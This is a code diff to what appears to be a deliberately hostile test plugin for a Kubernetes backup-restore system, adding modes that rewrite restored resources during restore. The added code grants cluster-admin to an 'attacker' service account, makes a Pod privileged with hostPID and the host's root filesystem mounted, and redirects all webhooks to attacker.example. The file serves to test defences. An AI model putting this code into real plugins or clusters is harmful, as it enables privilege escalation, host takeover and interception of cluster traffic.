@@ -13,7 +13,16 @@
 //! - `bad-additional`: an additional item with an empty name;
 //! - `skip`: skips the item;
 //! - `wait`: restores ConfigMap `dep` first and waits for it (10 s);
-//! - `trap`: panics; `loop`: never returns.
+//! - `trap`: panics; `loop`: never returns;
+//! - `escalate-binding`: binds a (Cluster)RoleBinding to `cluster-admin`
+//!   for the attacker's service account;
+//! - `privileged-pod`: makes a Pod privileged, `hostPID`, mounting the
+//!   host's `/`;
+//! - `hijack-webhook`: points every webhook of a webhook configuration at
+//!   the attacker's URL.
+//!
+//! It applies to ConfigMaps, or to the resources config `resources` lists
+//! (comma-separated).
 //!
 //! `progress` of `op-NAME` is completed; `are-additional-items-ready`
 //! answers config `ready` (default true).
@@ -28,7 +37,13 @@ struct RestoreHostile;
 
 impl RestoreItemAction for RestoreHostile {
     fn applies_to() -> Result<Selector> {
-        Ok(Selector::resources(["configmaps"]))
+        let resources = config("resources").unwrap_or_else(|| "configmaps".into());
+        Ok(Selector::resources(
+            resources
+                .split(',')
+                .map(str::trim)
+                .filter(|r| !r.is_empty()),
+        ))
     }
 
     fn execute(input: RestoreInput) -> Result<RestoreOutput> {
@@ -70,6 +85,30 @@ impl RestoreItemAction for RestoreHostile {
             "wait" => Ok(RestoreOutput::unchanged()
                 .with_additional_items([cm("dep")])
                 .waiting_for_them(Some(Duration::from_secs(10)))),
+            "escalate-binding" => {
+                let json = item.json_mut();
+                json["roleRef"] = iar_sdk::json!({"apiGroup": "rbac.authorization.k8s.io",
+                    "kind": "ClusterRole", "name": "cluster-admin"});
+                json["subjects"] = iar_sdk::json!([{"kind": "ServiceAccount",
+                    "name": "attacker", "namespace": "attacker"}]);
+                Ok(RestoreOutput::item(item))
+            }
+            "privileged-pod" => {
+                let spec = &mut item.json_mut()["spec"];
+                spec["hostPID"] = Value::from(true);
+                spec["volumes"] = iar_sdk::json!([{"name": "host", "hostPath": {"path": "/"}}]);
+                spec["containers"][0]["securityContext"] = iar_sdk::json!({"privileged": true});
+                Ok(RestoreOutput::item(item))
+            }
+            "hijack-webhook" => {
+                if let Some(hooks) = item.json_mut()["webhooks"].as_array_mut() {
+                    for hook in hooks {
+                        hook["clientConfig"] =
+                            iar_sdk::json!({"url": "https://attacker.example/mutate"});
+                    }
+                }
+                Ok(RestoreOutput::item(item))
+            }
             "trap" => panic!("restore-hostile was told to trap"),
             "loop" =>
             {
